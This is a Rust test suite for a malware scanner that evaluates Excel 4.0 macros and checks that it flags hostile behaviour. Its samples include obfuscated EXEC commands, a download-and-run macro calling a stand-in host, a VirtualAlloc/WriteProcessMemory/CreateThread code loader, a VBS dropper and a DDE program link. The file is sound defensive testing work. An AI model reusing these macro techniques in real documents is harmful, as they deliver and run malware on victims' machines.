//! Excel 4.0 macros, evaluated: what they start, fetch, write and load, and what they hide.

// The helpers of a test fail as the test does.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use strongroom_files::examine;
use strongroom_model::{Limits, Report, Verdict};

/// Returns a SYLK macro sheet with a column of formulas from R1C1 on, and cells `(row, column, value)` beside it.
fn sheet(formulas: &[&str], cells: &[(u32, u32, &str)]) -> String {
    let mut text = "ID;PWXL;N;E\nO;L;E;D;V0\nNN;NAuto_Open;ER1C1\n".to_owned();
    let escaped = |text: &str| text.replace(';', ";;");
    for (row, column, value) in cells {
        text += &format!("C;Y{row};X{column};K{}\n", escaped(value));
    }
    for (row, formula) in formulas.iter().enumerate() {
        text += &format!("C;Y{};X1;K0;E{}\n", row + 1, escaped(formula));
    }
    text + "E\n"
}

fn read(formulas: &[&str], cells: &[(u32, u32, &str)]) -> Report {
    examine("a.slk", sheet(formulas, cells).as_bytes(), &Limits::default())
}

fn titles(report: &Report) -> Vec<&str> {
    report
        .findings
        .iter()
        .map(|finding| finding.title.as_str())
        .collect()
}

fn starts(report: &Report) -> Vec<&str> {
    let start = "a macro that runs by itself starts ";
    titles(report)
        .into_iter()
        .filter_map(|title| title.strip_prefix(start))
        .collect()
}

#[test]
fn a_macro_that_only_speaks_is_cleared() {
    let report = read(&["ALERT(\"hello\")", "HALT()"], &[]);
    assert_eq!(
        report.verdict(),
        Verdict::Clean,
        "{:?} {:?}",
        report.findings,
        report.gaps
    );
    assert!(report.gaps.is_empty(), "{:?}", report.gaps);
    assert_eq!(report.scripts[0].language, "xlm");
    assert_eq!(
        report.scripts[0].layers[0].text,
        "Sheet1!A1: =ALERT(\"hello\")\nSheet1!A2: =HALT()\n"
    );
    assert!(titles(&report).contains(&"a macro runs by itself (Auto_Open)"));
}

#[test]
fn a_command_put_together_of_characters_and_cells_is_found() {
    let report = read(
        &[
            "EXEC(CHAR(99)&CHAR(98+2-1)&R1C3&MID(\"xxcmd.exey\",R2C3,4)&REPT(\"a\",3))",
            "HALT()",
        ],
        &[(1, 3, "\"/c echo \""), (2, 3, "3")],
    );
    assert_eq!(starts(&report), ["cc/c echo cmd.aaa"]);
}

#[test]
fn a_formula_written_at_run_time_runs() {
    let report = read(
        &[
            "FORMULA(\"=EX\"&\"EC(\"\"cmd /c echo 1\"\")\",R5C1)",
            "GOTO(R5C1)",
            "HALT()",
            "HALT()",
            "ALERT(\"replaced\")",
            "RETURN()",
        ],
        &[],
    );
    assert_eq!(starts(&report), ["cmd /c echo 1"]);
    let layers: Vec<&str> = report.scripts[0]
        .layers
        .iter()
        .map(|layer| layer.by.as_ref())
        .collect();
    assert_eq!(layers, ["source", "formula", "evaluated"]);
    assert_eq!(
        report.scripts[0].layers[1].text,
        "Sheet1!A5: =EXEC(\"cmd /c echo 1\")\n"
    );
}

#[test]
fn loops_build_texts() {
    let report = read(
        &[
            "SET.NAME(\"out\",\"\")",
            "FOR(\"i\",1,7)",
            "SET.NAME(\"out\",out&CHAR(INDEX(R1C3:R7C3,i)-1))",
            "NEXT()",
            "SET.VALUE(R1C5,0)",
            "WHILE(R1C5<3)",
            "SET.VALUE(R1C5,R1C5+1)",
            "SET.NAME(\"out\",out&R1C5)",
            "NEXT()",
            "EXEC(out)",
            "HALT()",
        ],
        &[
            (1, 3, "100"),
            (2, 3, "110"),
            (3, 3, "101"),
            (4, 3, "33"),
            (5, 3, "48"),
            (6, 3, "100"),
            (7, 3, "33"),
        ],
    );
    assert_eq!(starts(&report), ["cmd /c 123"]);
}

#[test]
fn unknown_conditions_are_taken_both_ways() {
    let report = read(
        &[
            "IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)",
            "IF(ISNUMBER(SEARCH(\"Windows\",GET.WORKSPACE(1))),,GOTO(R6C1))",
            "EXEC(\"cmd /c echo windows\")",
            "HALT()",
            "HALT()",
            "EXEC(\"cmd /c echo other\")",
            "HALT()",
        ],
        &[],
    );
    let mut found = starts(&report);
    found.sort_unstable();
    assert_eq!(found, ["cmd /c echo other", "cmd /c echo windows"]);
    assert!(report.gaps.is_empty(), "{:?}", report.gaps);
}

#[test]
fn blocks_and_calls_with_arguments_are_followed() {
    let report = read(
        &[
            "IF(1>2)",
            "EXEC(\"cmd /c echo never\")",
            "ELSE.IF(2>1)",
            "EXEC(R10C1(\"echo \",R1C3))",
            "ELSE()",
            "EXEC(\"cmd /c echo neither\")",
            "END.IF()",
            "RUN(R15C1)",
            "HALT()",
            "ARGUMENT(\"first\")",
            "ARGUMENT(\"second\")",
            "RETURN(\"cmd /c \"&first&second)",
            "HALT()",
            "HALT()",
            "EXEC(\"cmd /c echo run\")",
            "RETURN()",
        ],
        &[(1, 3, "\"x\"")],
    );
    let mut found = starts(&report);
    found.sort_unstable();
    // The arms that nothing takes are no macros of their own that start by themselves.
    assert_eq!(found, ["cmd /c echo run", "cmd /c echo x"]);
}

#[test]
fn a_download_that_is_started_is_malicious() {
    let report = read(
        &[
            "REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"fetch\",,1,9)",
            "fetch(0,\"https://a.example/\"&\"x.txt\",\"C:\\Users\\Public\\x.exe\",0,0)",
            "CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"C:\\Users\\Public\\x.exe\",,0,5)",
            "HALT()",
        ],
        &[],
    );
    assert_eq!(report.verdict(), Verdict::Malicious);
    assert!(
        titles(&report).contains(&"a macro that runs by itself downloads https://a.example/x.txt"),
        "{:?}",
        titles(&report)
    );
}

#[test]
fn bytes_copied_to_memory_are_loaded_code() {
    let report = read(
        &[
            "REGISTER(\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",\"alloc\",,1,9)",
            "alloc(0,1000,4096,64)",
            "SET.VALUE(R1C5,1)",
            "WHILE(R1C5<3)",
            "CALL(\"Kernel32\",\"WriteProcessMemory\",\"JJJCJJ\",-1,R2C1+R1C5,INDEX(R1C3:R2C3,R1C5),LEN(INDEX(R1C3:R2C3,R1C5)),0)",
            "SET.VALUE(R1C5,R1C5+1)",
            "NEXT()",
            "CALL(\"Kernel32\",\"CreateThread\",\"JJJJJJJ\",0,0,R2C1,0,0,0)",
            "HALT()",
        ],
        &[(1, 3, "\"first half, \""), (2, 3, "\"second half of the code\"")],
    );
    assert!(
        report
            .findings
            .iter()
            .any(|finding| finding.code == "script.load-code"),
        "{:?}",
        titles(&report)
    );
    assert_eq!(report.children.len(), 1);
    assert_eq!(
        report.children[0].evidence.size,
        "first half, second half of the code".len() as u64
    );
}

#[test]
fn a_file_written_line_by_line_is_read() {
    let report = read(
        &[
            "FOPEN(\"C:\\Users\\Public\\a.vbs\",3)",
            "FWRITELN(R1C1,\"Set s = CreateObject(\"\"WScript.Shell\"\")\")",
            "FWRITELN(R1C1,\"s.Run \"\"cmd /c echo 1\"\"\")",
            "FCLOSE(R1C1)",
            "EXEC(\"wscript C:\\Users\\Public\\a.vbs\")",
            "HALT()",
        ],
        &[],
    );
    assert!(
        titles(&report)
            .contains(&"a macro that runs by itself writes C:\\Users\\Public\\a.vbs and starts it"),
        "{:?}",
        titles(&report)
    );
    assert!(report.scripts.iter().any(|script| script.language == "vbs"));
}

#[test]
fn what_nothing_starts_is_read_and_weighs_less() {
    let text = sheet(&["EXEC(\"cmd /c echo 1\")", "HALT()"], &[]).replace("NN;NAuto_Open;ER1C1\n", "");
    let report = examine("a.slk", text.as_bytes(), &Limits::default());
    assert_eq!(titles(&report).last(), Some(&"a macro starts cmd /c echo 1"));
}

#[test]
fn what_is_not_known_is_not_cleared() {
    for formulas in [
        ["FORMULA(GET.DOCUMENT(1),R5C1)", "HALT()"],
        ["GOTO(INDIRECT(GET.NOTE(R1C1)))", "HALT()"],
        ["GET.NAME(\"x\")()", "HALT()"],
    ] {
        let report = read(&formulas, &[]);
        assert_eq!(report.verdict(), Verdict::NotCleared, "{formulas:?}");
    }
}

#[test]
fn endless_macros_end() {
    let few = Limits {
        steps: 100_000,
        ..Limits::default()
    };
    for formulas in [
        &["GOTO(R1C1)"][..],
        &["R1C1()"],
        &["WHILE(TRUE)", "SET.NAME(\"a\",a&a&\"xxxxxxxx\")", "NEXT()"],
        &[
            "FORMULA(\"=1\",R2C1)",
            "FORMULA(\"=1\",OFFSET(ACTIVE.CELL(),1,0))",
            "GOTO(R1C1)",
        ],
    ] {
        let report = examine("a.slk", sheet(formulas, &[]).as_bytes(), &few);
        assert_eq!(report.verdict(), Verdict::NotCleared, "{formulas:?}");
    }
    let forks = vec!["IF(RAND()<0.5,ALERT(1),ALERT(2))"; 2_000];
    let report = examine("a.slk", sheet(&forks, &[]).as_bytes(), &few);
    assert!(!report.gaps.is_empty());
}

#[test]
fn a_link_to_a_program_in_a_cell_is_told() {
    let report = examine(
        "a.slk",
        b"ID;P\nC;Y1;X1;K0;Ecmd|'/c echo 1'!A0\nE\n",
        &Limits::default(),
    );
    assert_eq!(
        titles(&report),
        ["a field starts a program (DDE): cmd|'/c echo 1'!A0"]
    );
}

#[test]
fn cells_that_were_emptied_are_passed_over_and_written_ones_run() {
    let report = read(
        &[
            "FORMULA.FILL(\"x\",R3C1:R6C1)",
            "FORMULA(\"=EXEC(\"\"cmd /c echo 1\"\")\",R5C1)",
            "EXEC(\"first\")",
            "EXEC(\"second\")",
            "EXEC(\"third\")",
            "EXEC(\"fourth\")",
            "EXEC(\"cmd /c echo 2\")",
            "HALT()",
        ],
        &[],
    );
    assert_eq!(starts(&report), ["cmd /c echo 1", "cmd /c echo 2"]);
}

#[test]
fn a_cell_that_is_itself_ends_in_a_gap_and_not_in_the_stack() {
    let sheet =
        b"ID;P\nO;E\nNN;NAuto_Open;ER1C1\nC;Y1;X1;EGOTO(R1C2)\nC;Y1;X2;ER1C2\nC;Y2;X1;ERUN(R1C2)\nE\n";
    let unfolded = strongroom_files::unfold_workbook(sheet, &Limits::default()).unwrap();
    assert!(
        unfolded
            .gaps
            .iter()
            .any(|gap| gap.hides && gap.why.contains("nesting")),
        "{unfolded:?}"
    );
}
